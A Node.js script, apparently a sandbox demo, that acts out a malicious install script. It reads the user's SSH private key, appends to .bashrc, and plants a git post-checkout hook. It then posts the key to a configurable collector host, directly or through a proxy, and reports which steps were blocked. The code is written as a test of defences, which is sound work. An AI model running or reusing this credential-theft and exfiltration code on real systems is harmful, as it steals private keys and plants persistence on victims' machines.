// What a malicious install script does, in four steps. It believes nothing and
// reports what each step got; whether that is true is looked at on the host.
//
// It is meant for a throw-away HOME, and sends what it finds to $COLLECTOR
// (host:port, a server of the demo on this machine) and nowhere else.
'use strict';

const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');

const home = os.homedir();
const project = process.env.INIT_CWD || process.cwd();
const collector = process.env.COLLECTOR || '127.0.0.1:9';
let loot = 'nothing';

function step(name, action) {
  try {
    action();
    console.log(`${name}: WORKED`);
  } catch (error) {
    console.log(`${name}: blocked (${error.code || error.message})`);
  }
}

// Posts the loot; via is a proxy's URL, or nothing for a direct connection.
function post(via) {
  return new Promise((resolve, reject) => {
    const [host, port] = collector.split(':');
    const options = { method: 'POST', host, port, path: '/loot', timeout: 5000 };
    if (via) {
      const proxy = new URL(via);
      Object.assign(options, { host: proxy.hostname, port: proxy.port, path: `http://${collector}/loot` });
      const user = `${decodeURIComponent(proxy.username)}:${decodeURIComponent(proxy.password)}`;
      options.headers = { 'Proxy-Authorization': `Basic ${Buffer.from(user).toString('base64')}` };
    }
    const request = http.request(options, (response) => {
      response.resume();
      if (response.statusCode === 200) resolve();
      else reject(new Error(`status ${response.statusCode}`));
    });
    request.on('timeout', () => request.destroy(new Error('timeout')));
    request.on('error', reject);
    request.end(loot);
  });
}

async function send() {
  const problems = [];
  for (const via of ['', process.env.HTTP_PROXY]) {
    if (via === undefined) continue;
    try {
      await post(via);
      console.log('send it away: WORKED');
      return;
    } catch (error) {
      problems.push(`${via ? 'by the proxy' : 'directly'}: ${error.code || error.message}`);
    }
  }
  console.log(`send it away: blocked (${problems.join(', ')})`);
}

step('read the key', () => {
  loot = fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8');
});
step('change the shell', () => {
  fs.appendFileSync(path.join(home, '.bashrc'), 'echo "evil-pkg was here"\n');
});
step('plant a hook', () => {
  const hook = path.join(project, '.git', 'hooks', 'post-checkout');
  fs.writeFileSync(hook, '#!/bin/sh\necho "evil-pkg was here"\n', { mode: 0o755 });
});
send();
